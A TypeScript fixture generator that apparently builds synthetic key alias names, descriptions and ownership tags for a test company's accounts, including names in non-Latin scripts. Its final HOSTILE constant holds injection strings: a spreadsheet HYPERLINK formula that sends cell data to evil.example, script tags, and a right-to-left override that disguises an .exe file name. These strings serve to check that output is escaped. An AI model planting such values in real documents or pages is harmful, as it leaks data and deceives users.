import type { Draw } from './draw.ts';
import type { SampleAccount, Team } from './places.ts';

const THINGS: Readonly<Record<Team, readonly string[]>> = {
  payments: [
    'card-vault',
    'card-token',
    'settlement',
    'payouts',
    'chargeback',
    'pan-store',
    'acquirer',
    'issuer',
  ],
  merchant: [
    'webhook',
    'onboarding',
    'storefront',
    'invoice',
    'catalogue',
    'terminal',
    'payout-account',
    'kyc',
  ],
  data: ['lake-raw', 'lake-curated', 'warehouse', 'features', 'events', 'exports', 'reporting', 'streams'],
  platform: ['terraform-state', 'artifacts', 'registry', 'backups', 'secrets', 'logs', 'mesh', 'builds'],
  identity: ['sessions', 'tokens', 'directory', 'passkeys', 'federation', 'consent', 'profiles', 'mfa'],
  treasury: [
    'ledger',
    'reconciliation',
    'statements',
    'fx-rates',
    'cash-pool',
    'tax',
    'closing',
    'bank-files',
  ],
  security: ['audit', 'forensics', 'ca', 'signing', 'scanner', 'vault', 'siem', 'evidence'],
};
const PARTS = [
  'api',
  'archive',
  'batch',
  'bucket',
  'cache',
  'db',
  'disk',
  'exports',
  'keys',
  'logs',
  'queue',
  'replay',
  'snapshots',
  'stream',
  'topic',
  'workers',
];
const BASES = 8 * PARTS.length;

const PART_WORDS: Readonly<Record<string, string>> = {
  api: 'payloads of the API',
  archive: 'objects in the archive',
  batch: 'files of the nightly batch',
  bucket: 'objects in the bucket',
  cache: 'entries of the cache',
  db: 'the database',
  disk: 'volumes',
  exports: 'exported files',
  keys: 'data keys',
  logs: 'log groups',
  queue: 'messages in the queue',
  replay: 'events kept for replay',
  snapshots: 'snapshots',
  stream: 'records of the stream',
  topic: 'messages of the topic',
  workers: 'work items',
};

const COST_CENTRES: Readonly<Record<Team, readonly string[]>> = {
  payments: ['CC-4100', 'CC-4110', 'CC-4120'],
  merchant: ['CC-4200', 'CC-4210'],
  data: ['CC-5100', 'CC-5130'],
  platform: ['CC-6000', 'CC-6010'],
  identity: ['CC-6200'],
  treasury: ['CC-7100'],
  security: ['CC-6400'],
};
const DATA_CLASSES: Readonly<Record<Team, readonly string[]>> = {
  payments: ['cardholder', 'confidential', 'internal'],
  merchant: ['personal', 'confidential', 'internal'],
  data: ['personal', 'internal', 'public'],
  platform: ['internal', 'confidential'],
  identity: ['personal', 'confidential'],
  treasury: ['financial', 'confidential'],
  security: ['restricted', 'confidential'],
};

export interface Name {
  /** Without `alias/`; unique among the keys of a unit, because it is made from the key's number there. */
  readonly path: string;
  /** What it protects, to follow a verb. */
  readonly what: string;
}

export function nameOf(team: Team, env: SampleAccount['env'], number: number, turn: number): Name {
  const base = (number * 37 + turn) % BASES;
  const round = Math.floor(number / BASES);
  const thing = THINGS[team][base % 8] ?? '';
  const part = PARTS[Math.floor(base / 8)] ?? '';
  const stage = env === 'prod' ? '' : `-${env}`;
  const again = round === 0 ? '' : `-${String(round + 1).padStart(2, '0')}`;
  return {
    path: `${team}/${thing}-${part}${stage}${again}`,
    what: `${PART_WORDS[part]} of ${thing.replaceAll('-', ' ')}`,
  };
}

/** The team named in the tags: mostly the account's own, and nobody for about 8 %. */
export function ownerOf(draw: Draw, own: Team): Team | null {
  if (draw.chance(0.08)) return null;
  if (draw.chance(0.86)) return own;
  return draw.pick(['payments', 'data', 'platform', 'identity', 'security']);
}

export function tagsOf(
  draw: Draw,
  team: Team | null,
  own: Team,
  env: string,
): { key: string; value: string }[] {
  const ownerKey = draw.weighted([
    ['team', 82],
    ['owner', 14],
    ['Owner', 4],
  ]);
  const bare = team === null && draw.chance(0.5);
  if (bare) return [];
  const tags: { key: string; value: string }[] = [];
  if (team !== null) tags.push({ key: ownerKey, value: team });
  if (draw.chance(0.84)) tags.push({ key: 'cost-center', value: draw.pick(COST_CENTRES[team ?? own]) });
  if (draw.chance(0.9)) tags.push({ key: 'env', value: env });
  if (draw.chance(0.6)) tags.push({ key: 'data-class', value: draw.pick(DATA_CLASSES[team ?? own]) });
  if (draw.chance(0.3))
    tags.push({ key: 'managed-by', value: draw.pick(['terraform', 'terraform', 'cdk', 'console']) });
  return tags;
}

/** Names in other scripts, as they come up in a company with offices abroad. */
export const FOREIGN = [
  { path: 'merchant/加盟店-決済', description: '加盟店の決済データを暗号化する鍵', tag: '東京オフィス' },
  { path: 'treasury/πληρωμές-αρχείο', description: 'Κλειδί για το αρχείο πληρωμών', tag: 'Αθήνα' },
  { path: 'data/отчёты-архив', description: 'Ключ шифрования архива отчётов', tag: 'Отдел данных' },
  {
    path: 'identity/clé-fédération',
    description: 'Clé de fédération, créée à Genève',
    tag: 'Équipe identité',
  },
  { path: 'platform/straße-lösung', description: 'Schlüssel für Größenänderungen', tag: 'Zürich' },
] as const;

/** Text that a spreadsheet, a page or a terminal must show and never obey. */
export const HOSTILE = {
  description:
    '=HYPERLINK("http://evil.example/?k="&A1,"Overdue invoice") <script>alert(1)</script> \u202Egnp.exe',
  tag: '<script>document.title="owned"</script>\u200F=1+1',
} as const;
